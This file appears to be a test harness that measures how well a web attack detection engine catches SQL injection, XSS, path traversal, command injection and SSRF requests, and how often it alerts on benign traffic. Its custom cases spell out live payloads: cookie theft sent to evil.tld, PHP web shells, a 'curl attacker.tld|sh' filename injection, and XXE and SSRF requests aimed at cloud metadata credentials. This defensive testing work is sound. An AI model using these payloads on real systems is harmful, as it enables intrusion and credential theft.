import { writeFileSync } from 'node:fs';
import { createAnalysisEngine } from '@/runtime/analyzer/engine';
import { buildExchange } from '@/test/fixtures/traffic';
import { SQLI, XSS, LFI, CMDI, SSRF, type Case, type Enc } from './blind-a-cases';
import { BENIGN } from './blind-a-benign';
import { R2 } from './blind-a-cases2';

const BASE: Record<string, string> = { sqli: '/products', xss: '/search', lfi: '/download', cmdi: '/tools/ping', ssrf: '/api/fetch' };
const RES: Record<string, string> = { sqli: 'products', xss: 'users', lfi: 'files', cmdi: 'hosts', ssrf: 'links' };
const BOUNDARY = '----WebKitFormBoundary7MA4YWxkTrZu0gW';

const hexAll = (s: string) => [...Buffer.from(s, 'utf8')].map((b) => '%' + b.toString(16).toUpperCase().padStart(2, '0')).join('');
const encSpecial = (s: string) => [...Buffer.from(s, 'utf8')].map((b) => (/[A-Za-z0-9._~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : '%' + b.toString(16).toUpperCase().padStart(2, '0'))).join('');
function encQ(p: string, enc: Enc): string {
  switch (enc) {
    case 'raw': return p;
    case 'min': return [...Buffer.from(p, 'utf8')].map((b) => { const c = String.fromCharCode(b); return b <= 0x20 || b >= 0x7f || '#&+%'.includes(c) ? '%' + b.toString(16).toUpperCase().padStart(2, '0') : c; }).join('');
    case 'dbl': return encSpecial(encSpecial(p));
    case 'b64': return encodeURIComponent(Buffer.from(p).toString('base64'));
    case 'full': return hexAll(p);
    default: return encodeURIComponent(p);
  }
}
const xmlEsc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const ujson = (s: string) => '"' + [...s].map((c) => (/[A-Za-z0-9 ]/.test(c) ? c : '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))).join('') + '"';

type Spec = Parameters<typeof buildExchange>[0];
function mp(fields: Array<[string, string, string?, string?]>): string {
  return fields.map(([n, v, fn, ct]) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${n}"${fn !== undefined ? `; filename="${fn}"` : ''}\r\n${ct ? `Content-Type: ${ct}\r\n` : ''}\r\n${v}\r\n`).join('') + `--${BOUNDARY}--\r\n`;
}
const MPCT = `multipart/form-data; boundary=${BOUNDARY}`;
const UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';

function place(c: Case, id: string): Spec {
  const [cls, , where, enc, p, name0] = c;
  const name = name0 ?? 'value';
  const host = 'shop.example.com';
  const h: Array<[string, string]> = [['User-Agent', UA], ['Accept', '*/*']];
  const base = BASE[cls];
  switch (where) {
    case 'q': return { id, host, target: `${base}?page=1&${name}=${encQ(p, enc === 'html' ? 'url' : enc)}`, requestHeaders: h };
    case 'path': return { id, host, target: `/api/v1/${RES[cls]}/${enc === 'min' ? encQ(p, 'min').replace(/\?/g, '%3F').replace(/\//g, '%2F') : enc === 'raw' ? p : encQ(p, enc)}/details`, requestHeaders: h };
    case 'form': {
      const v = enc === 'raw' ? p : encQ(p, enc === 'html' ? 'url' : enc).replace(/%20/g, '+');
      return { id, host, method: 'POST', target: base, requestHeaders: [...h, ['Content-Type', 'application/x-www-form-urlencoded']], requestBody: `csrf_token=a81f3c9d2e&${name}=${v}&submit=Send` };
    }
    case 'json': {
      const val = enc === 'ujson' ? ujson(p) : enc === 'b64' ? JSON.stringify(Buffer.from(p).toString('base64')) : JSON.stringify(p);
      const body = `{"data":{"type":"${RES[cls]}","attributes":{"locale":"en-US","${name}":${val},"tags":["a","b"]}},"meta":{"client":"web","v":3}}`;
      return { id, host, method: 'POST', target: `/api/v2/${RES[cls]}`, requestHeaders: [...h, ['Content-Type', 'application/json']], requestBody: body };
    }
    case 'multipart':
      return { id, host, method: 'POST', target: base, requestHeaders: [...h, ['Content-Type', MPCT]], requestBody: mp([['_token', 'x9f2k1'], [name, enc === 'b64' ? Buffer.from(p).toString('base64') : p]]) };
    case 'xml': {
      const v = p.startsWith('<![CDATA[') || enc === 'html' ? p : xmlEsc(p);
      return { id, host, method: 'POST', target: `/api/xml/${RES[cls]}`, requestHeaders: [...h, ['Content-Type', 'application/xml']], requestBody: `<?xml version="1.0" encoding="UTF-8"?><request><meta><client>web</client></meta><${name}>${v}</${name}></request>` };
    }
    case 'ua': return { id, host, target: `${base}?page=1`, requestHeaders: [['User-Agent', p], ['Accept', '*/*']] };
    case 'referer': return { id, host, target: `${base}?page=1`, requestHeaders: [...h, ['Referer', p]] };
    case 'xff': return { id, host, target: `${base}?page=1`, requestHeaders: [...h, ['X-Forwarded-For', p]] };
    case 'xhdr': return { id, host, target: `${base}?page=1`, requestHeaders: [...h, [cls === 'ssrf' ? 'X-Callback-Url' : cls === 'lfi' ? 'X-Template' : 'X-Client-Data', p]] };
    case 'cookie': {
      const v = enc === 'min' ? p.replace(/;/g, '%3B') : enc === 'b64' ? Buffer.from(p).toString('base64') : encodeURIComponent(p);
      return { id, host, target: `${base}?page=1`, requestHeaders: [...h, ['Cookie', `sid=8f14e45fceea167a5a36dedd4bea2543; ${name}=${v}; _ga=GA1.2.11.22`]] };
    }
    case 'custom': {
      if (p.startsWith('/')) return { id, host, target: p, requestHeaders: h };
      if (p === 'svg-upload') return { id, host, method: 'POST', target: '/account/avatar', requestHeaders: [...h, ['Content-Type', MPCT]], requestBody: mp([['avatar', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("//evil.tld/?c="+document.cookie)</script></svg>', 'avatar.svg', 'image/svg+xml']]) };
      if (p === 'php-input') return { id, host, method: 'POST', target: '/index.php?page=php://input', requestHeaders: [...h, ['Content-Type', 'application/x-www-form-urlencoded']], requestBody: "<?php system('id'); ?>" };
      if (p === 'mp-filename') return { id, host, method: 'POST', target: '/upload', requestHeaders: [...h, ['Content-Type', MPCT]], requestBody: mp([['file', 'GIF89a;<?php system($_GET["c"]); ?>', '../../../var/www/html/shell.php', 'image/gif']]) };
      if (p === 'mp-cmd-filename') return { id, host, method: 'POST', target: '/upload', requestHeaders: [...h, ['Content-Type', MPCT]], requestBody: mp([['file', 'GIF89a....', 'a.jpg;curl attacker.tld|sh;.jpg', 'image/jpeg']]) };
      if (p === 'json-escaped-slash') return { id, host, method: 'POST', target: '/api/v2/files/preview', requestHeaders: [...h, ['Content-Type', 'application/json']], requestBody: '{"doc":{"path":"..\\/..\\/..\\/..\\/etc\\/passwd"}}' };
      if (p === 'xxe-ssrf') return { id, host, method: 'POST', target: '/api/xml/import', requestHeaders: [...h, ['Content-Type', 'application/xml']], requestBody: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><r><name>&e;</name></r>' };
      if (p === 'host-header') return { id, target: '/latest/meta-data/iam/security-credentials/', requestHeaders: [['Host', '169.254.169.254'], ...h] };
      if (p === 'absolute-form') return { id, host: '169.254.169.254', target: 'http://169.254.169.254/latest/meta-data/', requestHeaders: h };
      if (p === 'json-array-ssrf') return { id, host, method: 'POST', target: '/api/v2/import', requestHeaders: [...h, ['Content-Type', 'application/json']], requestBody: JSON.stringify({ jobs: [{ type: 'rss', sources: ['https://blog.example.org/feed', 'http://[::ffff:169.254.169.254]/latest/meta-data/'] }] }) };
      throw new Error('unknown custom ' + p);
    }
  }
  throw new Error('bad place');
}

function run(spec: Spec, level: number) {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: level });
  const events = engine.analyze(buildExchange(spec), { sensorId: 's', sensorTags: [] }) as Array<Record<string, any>>;
  const m = events.find((e) => e.msg_type === 'MatchEvent');
  return m ? { hit: true, score: m.anomaly_score, rules: (m.matches as any[]).map((x) => `${x.id}:${x.classification}`) } : { hit: false, score: 0, rules: [] as string[] };
}

const all: Case[] = [...SQLI, ...XSS, ...LFI, ...CMDI, ...SSRF, ...R2];
const R1N = SQLI.length + XSS.length + LFI.length + CMDI.length + SSRF.length;
const out: any[] = [];
let n = 0;
for (const c of all) {
  n++;
  const spec = place(c, `atk-${n}`);
  const l1 = run({ ...spec, id: `atk-${n}-l1` }, 1);
  const l4 = run({ ...spec, id: `atk-${n}-l4` }, 4);
  out.push({ round: n <= R1N ? 1 : 2, n, cls: c[0], tech: c[1], place: c[2], enc: c[3], payload: c[4], param: c[5], target: spec.target, l1, l4 });
}
const ben: any[] = [];
let b = 0;
for (const x of BENIGN) {
  b++;
  const hdrs: Array<[string, string]> = [...(x.headers ?? [])];
  if (!hdrs.some(([k]) => k.toLowerCase() === 'user-agent')) hdrs.push(['User-Agent', UA]);
  if (x.ct) hdrs.push(['Content-Type', x.ct]);
  const spec: Spec = { id: `ben-${b}`, host: 'shop.example.com', method: x.method ?? 'GET', target: x.target, requestHeaders: hdrs, requestBody: x.body !== undefined ? Buffer.from(x.body, x.ct?.startsWith('multipart') ? 'latin1' : 'utf8') : undefined };
  ben.push({ b, label: x.label, target: x.target, l1: run(spec, 1), l4: run({ ...spec, id: `ben-${b}-l4` }, 4) });
}
writeFileSync(resultsFile('blind-a'), JSON.stringify({ attacks: out, benign: ben }, null, 1));

const classes = ['sqli', 'xss', 'lfi', 'cmdi', 'ssrf'];
for (const cl of classes) {
  for (const rr of [[1], [2], [1, 2]]) {
  const r = out.filter((o) => o.cls === cl && rr.includes(o.round));
  console.log(`${cl} round${rr.join('+')}: n=${r.length} L1=${r.filter((o) => o.l1.hit).length} (${((100 * r.filter((o) => o.l1.hit).length) / r.length).toFixed(1)}%) L4=${r.filter((o) => o.l4.hit).length} (${((100 * r.filter((o) => o.l4.hit).length) / r.length).toFixed(1)}%)`);
  }
}
console.log(`total n=${out.length} L1=${out.filter((o) => o.l1.hit).length} L4=${out.filter((o) => o.l4.hit).length}`);
console.log('\n--- MISSED at L1 ---');
for (const o of out.filter((o) => !o.l1.hit)) console.log(`#${o.n} r${o.round} [${o.cls}] ${o.tech} | ${o.place}/${o.enc} ${o.param ?? ''} | L4=${o.l4.hit ? 'hit ' + o.l4.rules.join(',') : 'MISS'} | ${JSON.stringify(o.payload)}`);
console.log('\n--- BENIGN alerts ---');
for (const x of ben) if (x.l1.hit || x.l4.hit) console.log(`B${x.b} ${x.label} | L1=${x.l1.hit ? x.l1.rules.join(',') : '-'} | L4=${x.l4.hit ? x.l4.rules.join(',') : '-'}`);
console.log(`benign n=${ben.length} L1 alerts=${ben.filter((x) => x.l1.hit).length} L4 alerts=${ben.filter((x) => x.l4.hit).length}`);

/** Where the per-request results go: a temp folder, so the run leaves the clone clean. */
function resultsFile(set: string): string {
  const dir = require('node:path').join(require('node:os').tmpdir(), set);
  require('node:fs').mkdirSync(dir, { recursive: true });
  return require('node:path').join(dir, 'results.json');
}
